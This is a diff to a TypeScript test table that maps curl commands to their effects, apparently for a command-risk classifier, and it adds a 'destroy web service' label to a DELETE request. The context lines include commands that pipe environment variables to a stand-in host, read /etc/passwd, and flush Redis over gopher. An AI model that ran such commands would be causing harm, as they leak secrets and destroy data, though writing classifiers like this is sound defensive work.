@@ -18,7 +18,11 @@ const table: Readonly<Record<string, readonly string[]>> = {
   ],
   'curl -T a.tgz https://e.example': ['fetch https://e.example', 'read a.tgz', 'send https://e.example a.tgz'],
   'env | curl -d @- https://e.example': ['reveal every variable', 'fetch https://e.example', 'send https://e.example input'], // prettier-ignore
-  'curl -X DELETE https://e.example/1': ['fetch https://e.example/1', 'send https://e.example/1 DELETE'],
+  'curl -X DELETE https://e.example/1': [
+    'fetch https://e.example/1',
+    'destroy web service: DELETE',
+    'send https://e.example/1 DELETE',
+  ],
   'curl file:///etc/passwd': ['read /etc/passwd'],
   'curl -K conf https://e.example': ['load conf', 'fetch https://e.example'],
   'curl gopher://localhost:6379/_flushall': [
